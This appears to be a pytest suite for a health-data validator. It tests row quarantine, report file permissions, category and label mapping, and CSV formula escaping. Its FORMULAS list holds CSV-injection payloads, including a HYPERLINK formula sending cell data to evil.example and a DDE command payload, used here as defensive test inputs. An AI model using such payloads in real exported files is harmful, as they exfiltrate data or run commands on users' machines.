"""Validation keeps every good row and quarantines exactly the bad ones, each with its line and reason."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from health_mlops.data.io import DataError, read_table, write_csv
from health_mlops.data.synthetic import CITIES, generate_city_days
from health_mlops.data.validate import Reason, validate_table, write_quality_report
from health_mlops.spec import load_spec

SPEC = load_spec("health-risk")

# line in the file -> (column to corrupt, bad value, expected reason); line 1 is the header.
CORRUPTIONS: dict[int, list[tuple[str, str, Reason]]] = {
    3: [("heart_rate", "abc", Reason.wrong_type)],
    4: [("age", "150", Reason.out_of_range)],
    5: [("sex", "X", Reason.unknown_category)],
    6: [("spo2", "", Reason.missing_value)],
    9: [("bmi", "NaN", Reason.missing_value), ("smoker", "sometimes", Reason.unknown_category)],
    12: [("pm25", "inf", Reason.out_of_range)],
    13: [("adverse_event_7d", "2", Reason.unknown_category)],
}
REPEATED_HEADER_LINE = 7
SHORT_LINE = 10
N_LINES = 15


def clean_rows(n: int) -> pd.DataFrame:
    frame = generate_city_days(CITIES[0], n, np.random.default_rng(0))
    return frame.drop(columns="_risk")


def write_corrupted_csv(path: Path) -> pd.DataFrame:
    """Lines 2..N_LINES: good rows, the corruptions above, a repeated header and a short line."""
    rows = clean_rows(N_LINES)
    header = list(rows.columns)
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        for line in range(2, N_LINES + 1):
            values = [str(v) for v in rows.iloc[line - 2]]
            if line == REPEATED_HEADER_LINE:
                values = header
            elif line == SHORT_LINE:
                values = values[:5]
            for column, bad, _ in CORRUPTIONS.get(line, []):
                values[header.index(column)] = bad
            writer.writerow(values)
    return rows


def test_corrupted_file_quarantines_exactly_the_bad_rows_with_their_reasons(tmp_path: Path) -> None:
    path = tmp_path / "corrupted.csv"
    rows = write_corrupted_csv(path)
    result = validate_table(read_table(path), SPEC)
    report = result.report

    bad_lines = {*CORRUPTIONS, REPEATED_HEADER_LINE, SHORT_LINE}
    assert [q.line for q in report.quarantined] == sorted(bad_lines)
    by_line = {q.line: q for q in report.quarantined}
    for line, corruptions in CORRUPTIONS.items():
        assert [(p.column, p.reason) for p in by_line[line].problems] == [(c, r) for c, _, r in corruptions]
    assert by_line[REPEATED_HEADER_LINE].problems[0].reason is Reason.duplicate_header
    assert by_line[SHORT_LINE].problems[0].reason is Reason.wrong_field_count
    assert "150 is out of range (allowed 18 to 110 years)" in by_line[4].summary
    assert "unknown category 'X' (allowed one of F, M (or as coded: female = F, woman = F, male = M, man = M))" \
        in by_line[5].summary

    good_lines = [line for line in range(2, N_LINES + 1) if line not in bad_lines]
    assert report.rows_read == N_LINES - 1
    assert report.rows_valid == len(good_lines) == len(result.frame)
    kept = result.frame["heart_rate"].tolist()
    assert kept == [float(rows.iloc[line - 2]["heart_rate"]) for line in good_lines]
    assert report.reasons == {"wrong_type": 1, "out_of_range": 2, "unknown_category": 3, "missing_value": 2,
                              "duplicate_header": 1, "wrong_field_count": 1}


def test_quarantined_rows_are_written_aside_as_they_were(tmp_path: Path) -> None:
    path = tmp_path / "corrupted.csv"
    write_corrupted_csv(path)
    result = validate_table(read_table(path), SPEC)
    report_path, quarantine_path = write_quality_report(result, tmp_path / "quality")
    aside = pd.read_csv(quarantine_path, dtype=str, keep_default_na=False)
    assert aside["line"].astype(int).tolist() == [q.line for q in result.report.quarantined]
    assert aside.loc[aside["line"] == "3", "heart_rate"].item() == "abc"
    assert "heart_rate: 'abc' is not a number" in aside.loc[aside["line"] == "3", "reason"].item()
    assert '"rows_quarantined": 9' in report_path.read_text()
    # patient records: readable by the owner only, written again over a file left world-readable
    assert stat.S_IMODE((tmp_path / "quality").stat().st_mode) == 0o700
    assert {stat.S_IMODE(p.stat().st_mode) for p in (report_path, quarantine_path)} == {0o600}
    quarantine_path.chmod(0o644)
    write_quality_report(result, tmp_path / "quality")
    assert stat.S_IMODE(quarantine_path.stat().st_mode) == 0o600


def test_categories_match_case_insensitively_and_parquet_floats(tmp_path: Path) -> None:
    rows = clean_rows(4)
    rows["sex"] = ["f", "M", "F", "m"]
    rows["asthma_copd"] = [0.0, 1.0, 1.0, 0.0]
    path = tmp_path / "rows.parquet"
    rows.to_parquet(path)
    result = validate_table(read_table(path), SPEC)
    assert result.report.rows_quarantined == 0
    assert result.frame["sex"].tolist() == ["F", "M", "F", "M"]
    assert result.frame["asthma_copd"].tolist() == ["0", "1", "1", "0"]


def test_the_usual_spellings_of_a_category_the_spec_lists_are_read_as_it(tmp_path: Path) -> None:
    """A hospital's file writes sex as male, a diagnosis as yes, smoking as ex-smoker: the spec's codes, in any case."""
    rows = clean_rows(4)
    rows["sex"] = ["male", "Female", "WOMAN", "m"]
    rows["diabetes"] = ["yes", "No", "TRUE", "0"]
    rows["smoker"] = ["Ex-Smoker", "never smoked", "smoker", "former"]
    path = tmp_path / "rows.csv"
    write_csv(rows, path)
    result = validate_table(read_table(path), SPEC)
    assert result.report.rows_quarantined == 0
    assert result.frame["sex"].tolist() == ["M", "F", "F", "M"]
    assert result.frame["diabetes"].tolist() == ["1", "0", "1", "0"]
    assert result.frame["smoker"].tolist() == ["former", "never", "current", "former"]


def test_extra_columns_are_ignored_and_reported(tmp_path: Path) -> None:
    rows = clean_rows(3).assign(patient_id=["a", "b", "c"])
    path = tmp_path / "extra.csv"
    rows.to_csv(path, index=False)
    result = validate_table(read_table(path), SPEC)
    assert result.report.ignored_columns == ["patient_id"]
    assert result.report.rows_valid == 3


@pytest.mark.parametrize(("content", "problem"), [
    (b"", "empty file (no header, no rows)"),
    (b"\n\n  \n", "empty file (no header, no rows)"),
    (b"heart_rate,spo2\n", "empty file (a header but no data rows)"),
    ("heart_rate\n72\n".encode("utf-16"), "wrong encoding: not UTF-8"),
    (b"a,a\n1,2\n", "columns named twice in the header: a"),
])
def test_unusable_files_raise_naming_the_file(tmp_path: Path, content: bytes, problem: str) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    with pytest.raises(DataError) as info:
        validate_table(read_table(path), SPEC)
    assert str(path) in str(info.value)
    assert problem in str(info.value)


def test_missing_columns_are_named(tmp_path: Path) -> None:
    path = tmp_path / "few.csv"
    clean_rows(3).drop(columns=["spo2", "age"]).to_csv(path, index=False)
    with pytest.raises(DataError, match="missing required column\\(s\\): spo2, age"):
        validate_table(read_table(path), SPEC)


def test_corrupt_parquet_is_unreadable(tmp_path: Path) -> None:
    path = tmp_path / "broken.parquet"
    path.write_bytes(b"PAR1 this is not parquet")
    with pytest.raises(DataError, match="cannot read as Parquet"):
        read_table(path)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3", "\t=1+1",
            "\r=1+1"]


def test_a_formula_in_any_text_cell_is_written_as_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
    """OWASP's CSV-injection rule, for every CSV we write (`write_csv`)."""
    out = tmp_path / "written.csv"
    write_csv(pd.DataFrame({"patient_id": [*FORMULAS, "P2"], "delta": [-2.0] * len(FORMULAS) + [3.0]}), out)
    with out.open(newline="", encoding="utf-8") as handle:
        written = list(csv.DictReader(handle))
    assert [row["patient_id"] for row in written] == [f"'{cell}" for cell in FORMULAS] + ["P2"]
    assert {row["delta"] for row in written} == {"-2.0", "3.0"}  # a negative number is a number


@pytest.mark.parametrize("cell", FORMULAS[:5])  # a lone CR in a cell is a line break to the reader
def test_a_quarantined_formula_is_written_aside_as_text(tmp_path: Path, cell: str) -> None:
    rows = clean_rows(3)
    rows["sex"] = rows["sex"].astype(object)
    rows.loc[1, "sex"] = cell  # an unknown category: the row is quarantined with it
    path = tmp_path / "patients.csv"
    rows.to_csv(path, index=False)
    _, quarantine_path = write_quality_report(validate_table(read_table(path), SPEC), tmp_path / "quality")
    aside = pd.read_csv(quarantine_path, dtype=str, keep_default_na=False)
    assert aside["sex"].tolist() == [f"'{cell}"]


def test_a_target_written_in_the_hospitals_own_labels_is_mapped_and_an_unknown_label_quarantined(
        tmp_path: Path) -> None:
    """A real outcome column says `0_no` / `1_yes`: without a label map every row was quarantined."""
    labelled = SPEC.model_copy(update={"target": SPEC.target.model_copy(update={"labels": {"0_no": 0, "1_yes": 1}})})
    frame = generate_city_days(CITIES[0], 6, np.random.default_rng(0)).drop(columns="_risk")
    frame[SPEC.target.name] = ["0_no", "1_YES", "0_No", "1_yes", "maybe", "1"]
    path = tmp_path / "labelled.csv"
    write_csv(frame, path)
    assert validate_table(read_table(path), SPEC).report.rows_valid == 1  # without the map: only the "1" is valid
    result = validate_table(read_table(path), labelled)
    assert result.frame[SPEC.target.name].tolist() == ["0", "1", "0", "1"]
    assert [q.line for q in result.report.quarantined] == [6, 7]
    assert "unknown category 'maybe' (allowed one of 0_no, 1_yes)" in result.report.quarantined[0].problems[0].message


@pytest.mark.parametrize(("labels", "refused"), [({"no": 0, "also no": 0}, "both outcomes"),
                                                 ({"Yes": 1, "yes": 0}, "distinct"),
                                                 ({"no": 0, "yes": 2}, "labels")])
def test_a_label_map_that_cannot_say_both_outcomes_is_refused(labels: dict, refused: str) -> None:
    document = SPEC.model_dump(mode="json", exclude_none=True)
    document["target"]["labels"] = labels
    with pytest.raises(ValueError, match=refused):
        type(SPEC).model_validate(document)
    regression = load_spec("diabetes").model_dump(mode="json", exclude_none=True)
    regression["target"]["labels"] = {"no": 0, "yes": 1}
    with pytest.raises(ValueError, match="for binary tasks"):
        type(SPEC).model_validate(regression)


def test_a_category_written_as_the_hospitals_code_is_mapped_and_an_unknown_code_quarantined(tmp_path: Path) -> None:
    document = SPEC.model_dump(mode="json", exclude_none=True)
    sex = next(f for f in document["features"] if f["name"] == "sex")
    sex["codes"] = {1: "F", 2: "M"}  # as YAML reads `{1: F, 2: M}`
    coded = type(SPEC).model_validate(document)
    frame = generate_city_days(CITIES[0], 5, np.random.default_rng(0)).drop(columns="_risk")
    frame["sex"] = ["1", "2", "f", "M", "3"]
    path = tmp_path / "coded.csv"
    write_csv(frame, path)
    assert validate_table(read_table(path), SPEC).report.rows_valid == 2  # uncoded: only "f" and "M"
    result = validate_table(read_table(path), coded)
    assert result.frame["sex"].tolist() == ["F", "M", "F", "M"]
    (bad,) = result.report.quarantined
    assert bad.line == 6 and "unknown category '3' (allowed one of F, M (or as coded: 1 = F, 2 = M))" in bad.summary


@pytest.mark.parametrize(("codes", "refused"), [({"1": "X"}, "not one of its categories"),
                                                ({"m": "F"}, "is also the category 'M'"),
                                                ({"a": "F", "A": "M"}, "distinct")])
def test_codes_that_would_misread_a_category_are_refused(codes: dict, refused: str) -> None:
    document = SPEC.model_dump(mode="json", exclude_none=True)
    next(f for f in document["features"] if f["name"] == "sex")["codes"] = codes
    with pytest.raises(ValueError, match=refused):
        type(SPEC).model_validate(document)
    document = SPEC.model_dump(mode="json", exclude_none=True)
    next(f for f in document["features"] if f["name"] == "age")["codes"] = {"old": "F"}
    with pytest.raises(ValueError, match="codes are for categorical features"):
        type(SPEC).model_validate(document)
